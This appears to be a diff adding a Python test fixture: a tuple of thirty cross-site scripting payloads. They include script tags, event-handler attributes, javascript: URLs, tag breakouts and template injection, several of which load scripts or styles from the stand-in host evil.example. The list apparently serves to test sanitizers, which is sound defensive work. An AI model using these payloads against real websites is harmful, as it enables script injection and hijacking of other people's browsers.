@@ -1,0 +1,36 @@
+"""Thirty texts that would run a script on a page that took any of them for more than text."""
+
+from typing import Final
+
+PAYLOADS: Final = (
+    "<script>globalThis.ran = 1</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror='globalThis.ran = 1'>",
+    "<img src=//evil.example/x.png>",
+    "<svg onload='globalThis.ran = 1'>",
+    "<svg><script>globalThis.ran = 1</script></svg>",
+    "<svg><animate onbegin='globalThis.ran = 1' attributeName=x dur=1s>",
+    "<body onload='globalThis.ran = 1'>",
+    "<iframe src='javascript:parent.ran = 1'></iframe>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "<object data='javascript:globalThis.ran = 1'></object>",
+    "<embed src='javascript:globalThis.ran = 1'>",
+    "<a href='javascript:globalThis.ran = 1' autofocus onfocus='globalThis.ran = 1'>x</a>",
+    "<input autofocus onfocus='globalThis.ran = 1'>",
+    "<details open ontoggle='globalThis.ran = 1'>x</details>",
+    "<video><source onerror='globalThis.ran = 1'></video>",
+    "<audio src=x onerror='globalThis.ran = 1'>",
+    "<marquee onstart='globalThis.ran = 1'>x</marquee>",
+    "<math><mtext><style><img src=x onerror='globalThis.ran = 1'></style></mtext></math>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:globalThis.ran = 1'>",
+    "<base href=//evil.example/>",
+    "<form action='javascript:globalThis.ran = 1'><button autofocus>x</button></form>",
+    "<template><script>globalThis.ran = 1</script></template>",
+    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
+    '"><script>globalThis.ran = 1</script>',
+    "' onmouseover='globalThis.ran = 1",
+    "javascript:globalThis.ran = 1",
+    "{{constructor.constructor('globalThis.ran = 1')()}}",
+    "</title></textarea><script>globalThis.ran = 1</script>",
+)
